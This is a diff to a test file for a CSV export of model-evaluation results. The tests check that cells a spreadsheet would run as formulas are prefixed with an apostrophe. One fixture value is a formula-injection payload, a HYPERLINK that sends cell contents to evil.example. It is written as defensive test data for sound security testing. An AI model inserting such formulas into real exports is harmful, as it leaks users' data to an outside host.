@@ -30,17 +30,18 @@ const hostile: GridData = {
 describe('the results CSV', () => {
   it('prefixes every cell a spreadsheet would run as a formula, multi-line outputs included', () => {
     const [, first, second] = Papa.parse<string[]>(gridCsv(hostile)).data;
-    expect(first.slice(0, 6)).toEqual([
+    expect(first.slice(0, 7)).toEqual([
       "'@name",
       "'-1+2",
+      '',
       "'+Terse",
       'openai - gpt-4.1',
       'SUCCESS',
       `'=HYPERLINK("http://evil.example/?"&A1)\nthen more lines`,
     ]);
-    expect(second[6]).toBe("'\tERROR");
+    expect(second[7]).toBe("'\tERROR");
     // Numbers stay numbers.
-    expect(first.slice(7, 10)).toEqual(['1', '2', '3']);
+    expect(first.slice(8, 11)).toEqual(['2', '3', '1']);
   });
 
   it("starts a mock run's file with a notice column that says so on every row", () => {
